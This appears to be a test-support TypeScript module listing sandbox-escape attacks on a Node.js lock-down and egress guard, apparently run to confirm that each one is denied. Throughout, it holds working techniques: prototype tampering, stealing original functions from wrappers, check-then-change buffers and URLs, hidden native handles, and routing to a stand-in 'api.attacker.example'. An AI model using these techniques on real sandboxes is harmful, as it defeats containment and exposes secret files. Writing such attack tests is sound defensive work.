/**
 * Attacks on the lock-down itself: bending what its checks are made of, taking the originals from behind its wrappers, values
 * that change between the check and the use, and the lesser-known doors of Node. Used by attacks.ts only.
 */
import asyncHooks from 'node:async_hooks';
import crypto from 'node:crypto';
import dgram from 'node:dgram';
import dns from 'node:dns';
import fs, { readFileSync } from 'node:fs';
import fsPromises from 'node:fs/promises';
import module from 'node:module';
import net from 'node:net';
import os from 'node:os';
import { join } from 'node:path';
import tls from 'node:tls';
import { createEgressClient, type EgressError } from '../../../../egress/index.ts';
import type { PinnedAddress } from '../../../../egress/types.ts';
import { defined } from '../../../support/defined.ts';

export interface SubtleAim {
  readonly secretFile: string;
  readonly writableDir: string;
  readonly port: number;
}

type AnyFunction = (...args: unknown[]) => unknown;
/** Members that the types leave out; what is not there fails as a call of undefined does. */
type Hidden = 'load' | 'listen' | 'bind' | '_createServerHandle' | '_listen2' | '_createSocketHandle';
const anyOf = (value: unknown) => value as Record<Hidden, AnyFunction>;

/** Runs an attack while a method of the language or of Node is replaced; throws when it cannot be replaced. */
async function bent(holder: object, key: PropertyKey, value: unknown, attack: () => unknown): Promise<unknown> {
  const before = Object.getOwnPropertyDescriptor(holder, key);
  Object.defineProperty(holder, key, { ...before, value });
  try {
    return await attack();
  } finally {
    if (before !== undefined) Object.defineProperty(holder, key, before);
  }
}

/** An error of the operating system means that the attack got as far as it. */
const unlessDenied = (attempt: () => unknown): unknown => {
  try {
    return attempt();
  } catch (error) {
    const { code } = error as NodeJS.ErrnoException;
    if (code === 'ERR_SANDBOX_DENIED' || code === 'ERR_ACCESS_DENIED' || error instanceof TypeError) throw error;
    return `was tried: ${code}`;
  }
};

const connected = (options: object): Promise<string> =>
  new Promise((done, fail) => {
    const socket = net.connect(options as net.NetConnectOpts);
    socket.on('connect', () => done('connected'));
    socket.on('error', fail);
  });

/** A function that a wrapper hands to `Reflect.apply` or `call`, without its being run. */
async function stolen(holder: object, key: string, at: number, trigger: () => unknown): Promise<AnyFunction> {
  let found: AnyFunction | undefined;
  const taker = function (this: unknown, ...args: unknown[]): unknown {
    found ??= (at < 0 ? this : args[at]) as AnyFunction;
    return undefined;
  };
  await bent(holder, key, taker, () => {
    try {
      trigger();
    } catch {}
  });
  if (!found) throw new Error('nothing was handed over');
  return found;
}

const ALLOWED = { host: 's3.eu-central-1.amazonaws.com', port: 443 };

/** An exchange with a name that leads to this machine. */
const astrayFrom =
  ({ port }: SubtleAim) =>
  (resolve = async () => [{ address: '127.0.0.1', family: 4 }]) => {
    const client = createEgressClient({}, { resolve });
    const request = { method: 'GET', url: `https://api.attacker.example:${port}/`, headers: [], keepBytes: 10 };
    return reaching(client.request(request));
  };

export const subtleAttacks = (aim: SubtleAim): Readonly<Record<string, () => unknown>> =>
  attacksOn(aim, astrayFrom(aim));

const attacksOn = (aim: SubtleAim, astray: ReturnType<typeof astrayFrom>): Readonly<Record<string, () => unknown>> => ({
  // What the checks are made of.
  'read a file past a bent string method': () =>
    bent(
      String.prototype,
      'startsWith',
      () => true,
      () => readFileSync(aim.secretFile, 'utf8'),
    ),
  'read a file past a bent array method': () =>
    bent(
      Array.prototype,
      'some',
      () => true,
      () => readFileSync(aim.secretFile, 'utf8'),
    ),
  'read a file by an original taken from Reflect.apply': async () =>
    (await stolen(Reflect, 'apply', 0, () => readFileSync(import.meta.filename)))(aim.secretFile, 'utf8'),
  'load a module by an original taken from call': async () =>
    (await stolen(Function.prototype, 'call', -1, () => process.getBuiltinModule('os')))('repl'),
  'connect past a bent array method': () =>
    bent(
      Array.prototype,
      'some',
      () => true,
      () => connected({ host: '127.0.0.1', port: aim.port }),
    ),
  'connect by an original taken from Reflect.apply': async () => {
    const connect = await stolen(Reflect, 'apply', 0, () => net.connect(ALLOWED));
    return new Promise((done, fail) => {
      const socket = new net.Socket();
      socket.on('connect', () => done('connected')).on('error', fail);
      Reflect.apply(connect, socket, [{ host: '127.0.0.1', port: aim.port }]);
    });
  },
  'look a name up past a bent set': () =>
    bent(
      Set.prototype,
      'has',
      () => true,
      () => dns.promises.lookup('localhost'),
    ),
  'lead the guard astray by a bent array method': () =>
    bent(
      Array.prototype,
      'find',
      () => ({ host: 'api.attacker.example', port: 443, address: '127.0.0.1', addressPort: aim.port }),
      () => exchange('api.attacker.example', []),
    ),
  'lead the guard astray by a bent pattern': () =>
    bent(
      RegExp.prototype,
      'exec',
      () => null,
      () =>
        bent(
          RegExp.prototype,
          'test',
          () => true,
          () => exchange('127.0.0.1', []),
        ),
    ),
  'lead the guard astray by a bent iterator': () =>
    bent(
      Object.getPrototypeOf([][Symbol.iterator]()) as object,
      'next',
      () => ({ done: true }),
      () => astray(),
    ),
  'lead the guard astray in the time of a look-up': () => {
    const before = defined(Object.getOwnPropertyDescriptor(Array.prototype, 'find'));
    const restore = () => Object.defineProperty(Array.prototype, 'find', before);
    return astray(async () => {
      Object.defineProperty(Array.prototype, 'find', { ...before, value: () => undefined });
      return [{ address: '127.0.0.1', family: 4 }];
    }).finally(restore);
  },
  'lead the guard astray by an option from nowhere': async () => {
    const pinned = [{ host: 'api.attacker.example', port: 443, address: '127.0.0.1', addressPort: aim.port }];
    Object.defineProperty(Object.prototype, 'pinned', { value: pinned, configurable: true });
    try {
      return await exchange('api.attacker.example');
    } finally {
      delete (Object.prototype as { pinned?: unknown }).pinned;
    }
  },
  'read a file with a Reflect of its own': async () => {
    let found: AnyFunction | undefined;
    await bent(
      globalThis,
      'Reflect',
      {
        apply(original: AnyFunction) {
          found = original;
        },
      },
      () => readFileSync(import.meta.filename),
    );
    return defined(found)(aim.secretFile, 'utf8');
  },
  // Values that change between the check and the use.
  'read a file by a buffer that changes': () => {
    const own = Buffer.from(import.meta.filename.padEnd(400, '\0').slice(0, import.meta.filename.length));
    const path = Buffer.alloc(Math.max(own.length, aim.secretFile.length), '/');
    own.copy(path, path.length - own.length);
    const options = {
      get encoding() {
        path.fill('/').write(aim.secretFile, path.length - aim.secretFile.length);
        return 'utf8' as const;
      },
    };
    const text = readFileSync(path, options);
    if (text === readFileSync(import.meta.filename, 'utf8')) throw new Error('read what was checked');
    return text;
  },
  'read a file by a URL that changes': () => {
    let asked = 0;
    class Changing extends URL {
      override get pathname(): string {
        return asked++ === 0 ? import.meta.filename : aim.secretFile;
      }
    }
    const text = readFileSync(new Changing(import.meta.url), 'utf8');
    if (text === readFileSync(import.meta.filename, 'utf8')) throw new Error('read what was checked');
    return text;
  },
  // Lesser-known doors.
  'write a file by a reading function': () => readFileSync(join(import.meta.dirname, 'planted.mjs'), { flag: 'w+' }),
  'write a file by a reading promise': () =>
    fsPromises.readFile(join(import.meta.dirname, 'planted.mjs'), { flag: 'a+' }),
  'write a file by options that change': () => {
    let asked = 0;
    return readFileSync(join(import.meta.dirname, 'planted.mjs'), {
      get flag() {
        return asked++ === 0 ? 'r' : 'w+';
      },
    });
  },
  'change the rights of a file by its handle': async () =>
    (await fsPromises.open(import.meta.filename)).chmod(fs.statSync(import.meta.filename).mode),
  'change the times of a file by its handle': async () => {
    const { atime, mtime } = fs.statSync(import.meta.filename);
    return (await fsPromises.open(import.meta.filename)).utimes(atime, mtime);
  },
  'read a file by the loader': () =>
    anyOf(new (module as unknown as new (id: string) => object)('x'))['load'](aim.secretFile),
  'read a file by an import with attributes': () => import(aim.secretFile, { with: { type: 'json' } }),
  'listen by a handle': () => anyOf(anyOf(net)['_createServerHandle']('127.0.0.1', 0, 4))['listen'](1),
  'listen by an old name': () => anyOf(net.createServer())['_listen2']('127.0.0.1', 0, 4, 1),
  'make a local socket by a handle': () =>
    anyOf(net)['_createServerHandle'](join(aim.writableDir, 'made.sock'), -1, -1),
  'make a local socket by the class of a pipe': () => {
    const { _handle } = process.stdout as unknown as { _handle: { constructor: new (type: number) => object } };
    const status = anyOf(new _handle.constructor(1))['bind'](join(aim.writableDir, 'made.sock'));
    return unlessDenied(() => status);
  },
  'listen by the class of a connection': async () => {
    const { handle } = await guardedSocket();
    const Tcp = handle.constructor as new (type: number) => object;
    const server = anyOf(new Tcp(1));
    return [server['bind']('127.0.0.1', 0), server['listen'](1)];
  },
  'bind a datagram handle': () => anyOf(dgram)['_createSocketHandle']('127.0.0.1', 0, 'udp4'),
  'take the mark from a connection': async () => {
    const { socket } = (await guardedSocket()) as unknown as { socket: Record<symbol, Record<symbol, unknown>> };
    for (const key of Object.getOwnPropertySymbols(socket)) {
      const held = socket[key];
      if (typeof held !== 'object' || held === null || !('secureContext' in held)) continue;
      const marks = Object.fromEntries(Object.getOwnPropertySymbols(held).map((mark) => [mark, held[mark]]));
      return connected({ host: '127.0.0.1', port: aim.port, ...marks });
    }
    throw new Error('no options were found');
  },
  'watch connections by a hook': () => asyncHooks.createHook({ init() {} }).enable(),
  'slow another process down': () => os.setPriority(process.ppid, os.getPriority(process.ppid)),
  'have a report written on an error': () => {
    process.report.directory = aim.writableDir;
    process.report.reportOnUncaughtException = true;
    return process.report.directory;
  },
  'load an engine': () => unlessDenied(() => crypto.setEngine('/lib/x86_64-linux-gnu/libc.so.6')),
  'load an engine by a context': () =>
    unlessDenied(() => tls.createSecureContext({ clientCertEngine: '/lib/x86_64-linux-gnu/libc.so.6' })),
  'request by the dispatcher of the runtime': () => {
    void globalThis.Response;
    const held = globalThis as unknown as Record<symbol, { request: AnyFunction } | undefined>;
    const dispatcher = [1, 2, 3].map((version) => held[Symbol.for(`undici.globalDispatcher.${version}`)]).find(Boolean);
    return defined(dispatcher).request({ origin: `http://127.0.0.1:${aim.port}`, path: '/', method: 'GET' });
  },
});

/** An exchange through the guard of this process, as a call makes one. */
function exchange(host: string, pinned?: PinnedAddress[]) {
  const client = createEgressClient(pinned ? { pinned } : {});
  return reaching(client.request({ method: 'GET', url: `https://${host}/`, headers: [], keepBytes: 10 }));
}

/** The listener speaks no TLS: to have been turned away by it is to have reached it. */
function reaching(exchanged: Promise<unknown>): Promise<unknown> {
  return exchanged.catch((error: EgressError) => {
    if (error.message.includes('ECONNRESET') || error.message.includes('handshake')) return 'connected';
    throw error;
  });
}

/**
 * The socket of a guarded connection (to a port of this machine that is closed), as a method of its class sees it, and the
 * native handle below it.
 */
async function guardedSocket(): Promise<{ socket: net.Socket; handle: object }> {
  let found: { socket: net.Socket; handle: object } | undefined;
  const original = net.Socket.prototype.setNoDelay;
  const host = 'api.upstream.example';
  await bent(
    net.Socket.prototype,
    'setNoDelay',
    function (this: net.Socket, isOn?: boolean) {
      const { _handle } = this as unknown as { _handle: { _parent: object } };
      found ??= { socket: this, handle: _handle._parent };
      return Reflect.apply(original, this, [isOn]);
    },
    () => exchange(host, [{ host, port: 443, address: '127.0.0.1', addressPort: 9 }]).catch(() => undefined),
  );
  if (!found) throw new Error('no connection was seen');
  return found;
}
